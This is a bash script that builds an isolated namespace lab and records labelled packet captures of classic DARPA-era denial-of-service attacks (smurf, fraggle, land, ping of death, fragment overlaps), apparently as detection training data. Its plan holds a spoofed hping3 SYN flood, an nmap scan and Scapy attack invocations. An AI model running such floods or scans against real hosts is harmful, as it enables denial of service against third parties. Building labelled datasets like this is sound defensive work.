#!/usr/bin/env bash
# lab/classic.sh OUT.pcap [PLAN] -- the classic denial-of-service attacks of the DARPA 1998/99
# evaluations, which other people's captures may hold: smurf and fraggle (requests to a subnet's
# broadcast with the victim's address forged, answered by every host), land (SYNs whose source
# is their destination), ping of death (an echo request in fragments ending past 65,535 bytes),
# teardrop, syndrop and nestea (overlapping fragments), beside normal web, ping and DNS traffic.
# Hosts (namespaces joined by a bridge, 198.18.0.0/24, no route out): victim .10 (http 80, udp
# echo 7, tcp echo 22), attacker .66, client .20, five DNS resolvers .31-.35; the client and the
# resolvers answer broadcast pings and run UDP echo (7) and chargen (19), as the hosts of an old
# subnet did. The attacks are sent by lab/classic.py (Scapy) or hping3 from the attacker, only to
# lab addresses (classic.py checks), each bounded by a count and by `timeout`.
# PLAN lines (default: the committed capture's): "label command" (attacker namespace; labelled
# as the attacker's), "label:SRC,SRC... command" (labelled as those sources': the reflectors of a
# smurf, the forged source of a land), "normal@c command" (client namespace, not labelled).
# Environment: EXTRA_VICTIM, EXTRA_CLIENT (commands run all along in the victim's and the
# client's namespace, e.g. normal fragmented traffic: `ping -s 3000`, lab/bigudp.py), DUR, TMO,
# CAPIF=victim (capture on the victim's link instead of the bridge).
# The fragment attacks with normal fragmented traffic beside them (data/captures/fragments.pcap):
#   EXTRA_VICTIM='python3 lab/bigudp.py serve 198.18.0.10 5300 & ping -s 3000 -i 0.5 198.18.0.20' \
#   EXTRA_CLIENT='sleep 2; python3 lab/bigudp.py ask 198.18.0.10 5300 400 0.25' \
#   bash lab/classic.sh fragments.pcap lab/fragments.plan
# Pings of death (lab/classic.py pod, podx, pod6) beside normal large pings both ways
# (data/captures/pingofdeath.pcap; every host also has 2001:2::c612:XX, XX its IPv4 address's
# last byte in hex; the plan labels the IPv6 attack with its IPv6 source):
#   EXTRA_VICTIM='python3 lab/bigudp.py serve 198.18.0.10 5300 & ping -s 2000 -i 0.5 198.18.0.20' \
#   EXTRA_CLIENT='sleep 2; ping -s 3000 -i 0.5 198.18.0.10 & ping -6 -s 3000 -i 1 2001:2::c612:a & python3 lab/bigudp.py ask 198.18.0.10 5300 300 0.5' \
#   DUR=300 bash lab/classic.sh pingofdeath.pcap lab/pingofdeath.plan
# Writes OUT.labels.json. Run as root.
# shellcheck disable=SC2016 # the client loops in single quotes are expanded by their own bash
set -u
OUT=$1; LBL=${OUT%.pcap}.labels.json
HERE=$(cd "$(dirname "$0")" && pwd); export HERE
# shellcheck source=lab/lib.sh
source "$HERE/lib.sh"
lab_begin "njcl$$"
lab_tmpdir /tmp/njcl.XXXXXX; W=$LAB_TMPDIR
R="198.18.0.20,198.18.0.31,198.18.0.32,198.18.0.33,198.18.0.34,198.18.0.35"
ATT=${2:-$W/plan}
[ -n "${2:-}" ] || cat > "$ATT" <<EOF
flood-icmp:$R /usr/bin/python3 $HERE/classic.py smurf e2
normal@c sleep 10
flood-udp:$R /usr/bin/python3 $HERE/classic.py fraggle e2
normal@c sleep 10
flood-syn:198.18.0.10 hping3 -q -S -a 198.18.0.10 -s 80 -k -p 80 -i u3000 -c 400 198.18.0.10
normal@c sleep 10
other-attack /usr/bin/python3 $HERE/classic.py pod e2
normal@c sleep 10
scan-syn nmap -n -sS -T4 -p 1-200 198.18.0.10
EOF
LIFE=$(( ${DUR:-600} + 3600 ))   # every process's bound; the client stops after DUR
# IPv6 on, as in an old subnet's hosts (and the switch, as it always was)
lab_switch -6 b
for r in v:10 a:66 c:20 r1:31 r2:32 r3:33 r4:34 r5:35; do
  lab_host -6 "${r%%:*}" "198.18.0.${r##*:}/24"
  # IPv6 too (RFC 5180's 2001:2::/48, the IPv4 address in the low 32 bits; no route out)
  lab_addr6 "${r%%:*}" "$LAB_IF" "2001:2::c612:$(printf %x "${r##*:}")/64" nodad
done
lab_check_routes
bg v $LIFE python3 -m http.server 80 --bind 198.18.0.10 >/dev/null 2>&1
bg v $LIFE socat UDP4-RECVFROM:7,fork EXEC:cat >/dev/null 2>&1
bg v $LIFE socat TCP4-LISTEN:22,fork,reuseaddr EXEC:cat >/dev/null 2>&1
bg v $LIFE iperf3 -s -B 198.18.0.10 >/dev/null 2>&1
TXT=$(printf 'x%.0s' $(seq 200))
for k in 1 2 3 4 5; do
  bg r$k $LIFE dnsmasq --no-daemon --no-resolv --no-hosts --listen-address=198.18.0.3$k --bind-interfaces \
    --txt-record=big.example,$TXT --txt-record=big.example,$TXT --txt-record=big.example,$TXT \
    --address=/www.example/198.18.0.10 --pid-file="$W/dns$k.pid" >/dev/null 2>&1
done
[ -n "${EXTRA_VICTIM:-}" ] && bg v $LIFE bash -c "$EXTRA_VICTIM" >/dev/null 2>&1
[ -n "${EXTRA_CLIENT:-}" ] && bg c $LIFE bash -c "$EXTRA_CLIENT" >/dev/null 2>&1
# classic-attack lab: every host answers broadcast pings and runs a UDP echo service (smurf, fraggle)
for n in "${LAB_NS[@]}"; do ip netns exec "$n" sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0 2>/dev/null; done
for h in c r1 r2 r3 r4 r5; do
  bg $h $LIFE socat UDP4-RECVFROM:7,fork,reuseaddr EXEC:cat >/dev/null 2>&1
  bg $h $LIFE socat UDP4-RECVFROM:19,fork,reuseaddr SYSTEM:"printf %0200d 0" >/dev/null 2>&1
done
sleep 1
if [ "${CAPIF:-br}" = victim ]; then lab_capture v $LIFE e1 "$OUT" -s 96; else lab_capture b $LIFE br0 "$OUT" -s 96; fi
sleep 1
bg c $LIFE bash -c 'end=$((SECONDS+${DUR:-600})); while [ $SECONDS -lt $end ]; do python3 -c "
import urllib.request,random
for i in range(random.randint(1,4)): urllib.request.urlopen(\"http://198.18.0.10/\",timeout=2).read()
" 2>/dev/null; ping -c 2 -i 0.3 -W 1 198.18.0.10 >/dev/null; dig +time=1 +tries=1 @198.18.0.3$((RANDOM%5+1)) www.example >/dev/null 2>&1; sleep 0.$((RANDOM%9+1)); done'
CL=$BG_PID
attack() { # LABEL COMMAND
  local label=$1 cmd=$2 h=a srcs=198.18.0.66 src
  nap 3
  [[ $label == *@* ]] && h=${label##*@}
  lab_run "$h" "${TMO:-30}" bash -c "$cmd" >/dev/null 2>&1
  log "ran $label ($(echo "$RUN_E - $RUN_S" | bc) s) at $RUN_S: $cmd"
  [[ $label == normal* ]] && return
  [[ $label == *:* ]] && srcs=${label#*:} && label=${label%%:*}
  for src in ${srcs//,/ }; do
    lab_episode "$W/episodes" "$src" "$label" "$RUN_S" "$(plus "$RUN_E" 2)" "$cmd"
  done
}
: >"$W/episodes"
lab_lines "$ATT" attack
# every labelled source is an attacker (the reflectors of a smurf, the forged source of a land)
lab_labels "$LBL" "$(basename "$OUT")" "$W/episodes" auto
nap 3
kill "$CL" 2>/dev/null; nap 1
lab_capture_stop
